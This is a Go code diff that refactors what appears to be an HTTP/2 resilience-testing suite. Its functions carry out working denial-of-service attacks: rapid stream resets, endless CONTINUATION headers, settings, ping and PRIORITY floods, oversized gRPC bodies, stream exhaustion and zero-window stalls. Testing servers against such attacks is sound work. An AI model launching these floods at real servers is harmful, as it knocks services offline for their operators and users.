@@ -71,6 +71,37 @@ func (f *Frames) Pour(b *bytes.Buffer) {
 	f.Hang()
 }
 
+// pour writes frames on a connection of its own, see [Frames.Pour].
+func pour(ctx context.Context, to Target, write func(w *http2.Framer)) error {
+	f, err := Speak(ctx, to)
+	if err != nil {
+		return err
+	}
+	f.Pour(frames(write))
+	return nil
+}
+
+// flood writes frames on a connection of its own, waits until the target has ended a request or the time is up, and leaves.
+func flood(ctx context.Context, to Target, up <-chan time.Time, write func(w *http2.Framer)) error {
+	f, err := Speak(ctx, to)
+	if err != nil {
+		return err
+	}
+	defer f.Leave()
+	_, _ = frames(write).WriteTo(f.Conn)
+	select {
+	case <-f.Over:
+	case <-up:
+	}
+	return nil
+}
+
+func frames(write func(w *http2.Framer)) *bytes.Buffer {
+	var many bytes.Buffer
+	write(http2.NewFramer(&many, nil)) // which cannot fail
+	return &many
+}
+
 // Hang ends the direction to the target and waits until the target has closed the connection.
 func (f *Frames) Hang() {
 	closeWrite(f.Conn)
@@ -127,21 +158,18 @@ func HTTP2() []Attack {
 func Resets(ctx context.Context, to Target) error {
 	block, body := to.Block("resets"), []byte{0, 0, 0, 0, 0} // an empty message of gRPC
 	for range 4 {
-		f, err := Speak(ctx, to)
-		if err != nil {
+		if err := pour(ctx, to, func(w *http2.Framer) {
+			for i := range to.times(10_000) {
+				id := uint32(2*i + 1)
+				_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: i%2 == 0})
+				if i%4 == 1 {
+					_ = w.WriteData(id, true, body)
+				}
+				_ = w.WriteRSTStream(id, http2.ErrCodeCancel)
+			}
+		}); err != nil {
 			return err
 		}
-		var many bytes.Buffer
-		w := http2.NewFramer(&many, nil)
-		for i := range to.times(10_000) {
-			id := uint32(2*i + 1)
-			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: i%2 == 0})
-			if i%4 == 1 {
-				_ = w.WriteData(id, true, body)
-			}
-			_ = w.WriteRSTStream(id, http2.ErrCodeCancel)
-		}
-		f.Pour(&many)
 	}
 	return nil
 }
@@ -149,87 +177,72 @@ func Resets(ctx context.Context, to Target) error {
 // EndlessHeaders never ends the headers of a request, with fields and with empty frames. It is an error if the target takes
 // 100,000 frames of fields.
 func EndlessHeaders(ctx context.Context, to Target) error {
+	field := HeaderBlock("x-more", strings.Repeat("y", 4000))
+	sent, taken, err := continuations(ctx, to, field, 100_000)
+	if err == nil && taken {
+		err = fmt.Errorf("attacks: %d frames of one header block were taken", sent)
+	}
+	if err == nil {
+		_, _, err = continuations(ctx, to, nil, to.times(100_000))
+	}
+	return err
+}
+
+// continuations sends the beginning of a header block and then up to most frames with a part of it, and reports whether the
+// target took them all.
+func continuations(ctx context.Context, to Target, part []byte, most int) (sent int, taken bool, err error) {
 	f, err := Speak(ctx, to)
 	if err != nil {
-		return err
+		return 0, false, err
 	}
-	err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("endless")})
-	field := HeaderBlock("x-more", strings.Repeat("y", 4000))
-	sent := 0
-	for ; err == nil && sent < 100_000; sent++ {
-		err = f.WriteContinuation(1, false, field)
+	defer f.Leave()
+	refused := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("endless")})
+	for ; refused == nil && sent < most; sent++ {
+		refused = f.WriteContinuation(1, false, part)
 	}
-	f.Leave()
-	if err == nil {
-		return fmt.Errorf("attacks: %d frames of one header block were taken", sent)
-	}
-	f, err = Speak(ctx, to)
-	if err != nil {
-		return err
-	}
-	err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("endless")})
-	for sent = 0; err == nil && sent < to.times(100_000); sent++ {
-		err = f.WriteContinuation(1, false, nil)
-	}
-	f.Leave()
-	return nil
+	return sent, refused == nil, nil
 }
 
 // SettingsFlood changes the settings 100,000 times.
 func SettingsFlood(ctx context.Context, to Target) error {
-	f, err := Speak(ctx, to)
-	if err != nil {
-		return err
-	}
-	var many bytes.Buffer
-	w := http2.NewFramer(&many, nil)
-	for range to.times(100_000) {
-		_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
-	}
-	f.Pour(&many)
-	return nil
+	return pour(ctx, to, func(w *http2.Framer) {
+		for range to.times(100_000) {
+			_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
+		}
+	})
 }
 
 // PingFlood sends 100,000 pings, and 200,000 on a connection that is never read.
 func PingFlood(ctx context.Context, to Target) error {
-	f, err := Speak(ctx, to)
-	if err != nil {
+	pings := func(w *http2.Framer, n int) {
+		for range n {
+			_ = w.WritePing(false, [8]byte{})
+		}
+	}
+	if err := pour(ctx, to, func(w *http2.Framer) { pings(w, to.times(100_000)) }); err != nil {
 		return err
 	}
-	var many bytes.Buffer
-	w := http2.NewFramer(&many, nil)
-	for range to.times(100_000) {
-		_ = w.WritePing(false, [8]byte{})
-	}
-	f.Pour(&many)
 	c, err := to.Dial(ctx)
 	if err != nil {
 		return err
 	}
 	defer c.Close()
 	_, _ = io.WriteString(c, http2.ClientPreface)
-	_ = w.WriteSettings()
-	for range to.times(200_000) {
-		_ = w.WritePing(false, [8]byte{})
-	}
 	_ = c.SetWriteDeadline(time.Now().Add(time.Second))
-	_, _ = many.WriteTo(c)
+	_, _ = frames(func(w *http2.Framer) {
+		_ = w.WriteSettings()
+		pings(w, to.times(200_000))
+	}).WriteTo(c)
 	return nil
 }
 
 // PriorityFlood sends 100,000 PRIORITY frames for streams that do not exist.
 func PriorityFlood(ctx context.Context, to Target) error {
-	f, err := Speak(ctx, to)
-	if err != nil {
-		return err
-	}
-	var many bytes.Buffer
-	w := http2.NewFramer(&many, nil)
-	for i := range to.times(100_000) {
-		_ = w.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: 1})
-	}
-	f.Pour(&many)
-	return nil
+	return pour(ctx, to, func(w *http2.Framer) {
+		for i := range to.times(100_000) {
+			_ = w.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: 1})
+		}
+	})
 }
 
 // HeaderLists are small on the wire and 30 MB when they are decoded (50 times).
@@ -330,60 +343,41 @@ func OddPaths(ctx context.Context, to Target) error {
 // Bodies sends more than may be sent, in messages of gRPC that announce 4 GB (50 times).
 func Bodies(ctx context.Context, to Target) error {
 	for range to.times(50) {
-		f, err := Speak(ctx, to)
-		if err != nil {
+		if err := flood(ctx, to, nil, func(w *http2.Framer) {
+			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("bodies", "content-type", "application/grpc"), EndHeaders: true})
+			_ = w.WriteData(1, false, []byte("\x00\xff\xff\xff\xff"))
+			for range 40 {
+				_ = w.WriteData(1, false, make([]byte, 16<<10))
+			}
+		}); err != nil {
 			return err
 		}
-		var many bytes.Buffer
-		w := http2.NewFramer(&many, nil)
-		_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: to.Block("bodies", "content-type", "application/grpc"), EndHeaders: true})
-		_ = w.WriteData(1, false, []byte("\x00\xff\xff\xff\xff"))
-		for range 40 {
-			_ = w.WriteData(1, false, make([]byte, 16<<10))
-		}
-		_, _ = many.WriteTo(f.Conn)
-		<-f.Over
-		f.Leave()
 	}
 	return nil
 }
 
-// Streams begins more requests at once than may be, whose bodies never come (10,000 on each of 4 connections).
+// Streams begins more requests at once than may be, whose bodies never come (10,000 on each of 4 connections), until the
+// first is refused.
 func Streams(ctx context.Context, to Target) error {
 	for range 4 {
-		f, err := Speak(ctx, to)
-		if err != nil {
+		if err := flood(ctx, to, nil, func(w *http2.Framer) {
+			for i := range to.times(10_000) {
+				_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("streams"), EndHeaders: true})
+			}
+		}); err != nil {
 			return err
 		}
-		var many bytes.Buffer
-		w := http2.NewFramer(&many, nil)
-		for i := range to.times(10_000) {
-			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("streams"), EndHeaders: true})
-		}
-		_, _ = many.WriteTo(f.Conn)
-		<-f.Over // the first that is refused
-		f.Leave()
 	}
 	return nil
 }
 
-// ClosedWindows asks for 100 responses with windows of 0, waits until the headers of some have come, and leaves.
+// ClosedWindows asks for 100 responses with windows of 0, waits for a second, and leaves: nothing can end without a window,
+// which is the point.
 func ClosedWindows(ctx context.Context, to Target) error {
-	f, err := Speak(ctx, to)
-	if err != nil {
-		return err
-	}
-	var many bytes.Buffer
-	w := http2.NewFramer(&many, nil)
-	_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
-	for i := range to.times(100) {
-		_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("windows"), EndHeaders: true, EndStream: true})
-	}
-	_, _ = many.WriteTo(f.Conn)
-	select {
-	case <-f.Over:
-	case <-time.After(time.Second): // nothing can end without a window, which is the point
-	}
-	f.Leave()
-	return nil
+	return flood(ctx, to, time.After(time.Second), func(w *http2.Framer) {
+		_ = w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		for i := range to.times(100) {
+			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: to.Block("windows"), EndHeaders: true, EndStream: true})
+		}
+	})
 }
